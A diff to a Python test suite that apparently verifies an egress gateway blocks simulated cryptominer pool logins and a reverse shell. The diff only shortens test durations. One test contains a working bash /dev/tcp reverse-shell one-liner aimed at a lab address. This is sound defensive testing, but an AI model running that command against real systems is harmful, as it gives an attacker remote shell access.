@@ -99,7 +99,7 @@ class TestOneGateway:
     def test_stratum_miner_never_logs_in(self, lab, gateway):
         record = lab.sim_pool("stratum", 3333)
         proc = lab.sbx(PY, "-m", "egress.sim.stratum", "client", "--connect", "%s:3333" % lab.ext4,
-                       "--duration", "4", "--share-interval", "0.2", timeout=20)
+                       "--duration", "2", "--share-interval", "0.2", timeout=20)
         assert proc.returncode != 0 or '"shares": 0' in proc.stdout
         received = [r["msg"].get("method") for r in records(record) if r["dir"] == "in"]
         assert "mining.authorize" not in received and "mining.subscribe" not in received, received
@@ -108,13 +108,13 @@ class TestOneGateway:
         pool_ip = lab.topo.add_ext_address(1)     # a second outside host, so :443 is free
         record = lab.sim_pool("xmr", 443, host=pool_ip)
         proc = lab.sbx(PY, "-m", "egress.sim.xmr", "client", "--connect", "%s:443" % pool_ip,
-                       "--duration", "4", "--share-interval", "0.2", timeout=20)
+                       "--duration", "2", "--share-interval", "0.2", timeout=20)
         received = [r["msg"].get("method") for r in records(record) if r["dir"] == "in"]
         assert "login" not in received and "submit" not in received, (received, proc.stdout, proc.stderr)
 
     def test_reverse_shell_gets_no_command_through(self, lab, gateway):
         record = lab.server("listen", "--host", lab.ext4, "--port", "4444", "--send", "id\\n", "--idle", "4")
-        lab.sbx("timeout", "6", "bash", "-c", "exec 3<>/dev/tcp/%s/4444; sh <&3 >&3 2>&3" % lab.ext4, timeout=15)
+        lab.sbx("timeout", "3", "bash", "-c", "exec 3<>/dev/tcp/%s/4444; sh <&3 >&3 2>&3" % lab.ext4, timeout=15)
         time.sleep(0.5)
         got = "".join(r.get("received", "") for r in records(record) if r["kind"] == "conn")
         assert "uid=" not in got
